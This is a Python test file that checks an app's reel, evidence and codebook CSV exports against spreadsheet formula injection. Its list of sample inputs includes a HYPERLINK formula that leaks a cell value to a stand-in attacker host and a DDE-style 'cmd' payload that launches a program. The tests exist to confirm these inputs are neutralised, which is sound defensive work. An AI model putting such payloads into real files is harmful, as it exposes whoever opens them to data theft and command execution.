"""Issue 11, item 4: no CSV the app writes can run a formula in a spreadsheet (OWASP): a cell
starting with = + - @, a tab or a carriage return gets a leading quote. Reel, evidence and
codebook CSVs all go through one helper."""

import csv

import pytest

from app.prototypes import evidence
from app.clips import clips
from app.codebook import codebook_files
from app.reels import export, reels
from app.films import importing
from app.prototypes import prototypes
from media.export import csv_cells

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)",
           "\tTAB=1", "\rCR=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_escape_quotes_every_formula_start(value):
    assert csv_cells.escape(value) == "'" + value
    assert csv_cells.unescape(csv_cells.escape(value)) == value


@pytest.mark.parametrize("value", ["plain", "", "Tom's", "a=b", "'already", 12, -5, 1.5])
def test_escape_leaves_everything_else(value):
    assert csv_cells.escape(value) == value


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _dangerous(cells):
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.fixture
def hostile_library(lib, counting_film):
    (film,) = importing.import_files(lib, [counting_film])
    ids = [clips.add(lib, film.film_id, i * 500_000, (i + 1) * 500_000, title=title, note=title, quote=title,
                     tags=[f"theme:{title.strip() or 'x'}"])
           for i, title in enumerate(HOSTILE)]
    reels.create(lib, "=cmd|' /C calc'!A0", ids, audience="public")
    pid = prototypes.add(lib, "@prototype")
    prototypes.link(lib, pid, ids)
    return lib, pid


def test_reel_csv_cells_cannot_run(hostile_library, tmp_path):
    lib, _ = hostile_library
    out = export.export_reel(lib, "=cmd|' /C calc'!A0", tmp_path / "reel.csv")
    cells = _cells(out)
    assert _dangerous(cells) == []
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells


def test_evidence_csv_cells_cannot_run(hostile_library, tmp_path):
    lib, pid = hostile_library
    cells = _cells(evidence.write_csv(evidence.board(lib, pid), tmp_path / "board.csv"))
    assert _dangerous(cells) == [] and "'@prototype" in cells


def test_codebook_csv_cells_cannot_run(hostile_library, tmp_path):
    lib, _ = hostile_library
    codebook_files.write_file(lib, tmp_path / "book.csv")
    cells = _cells(tmp_path / "book.csv")
    assert _dangerous(cells) == [] and "'+SUM(1,2)" in cells
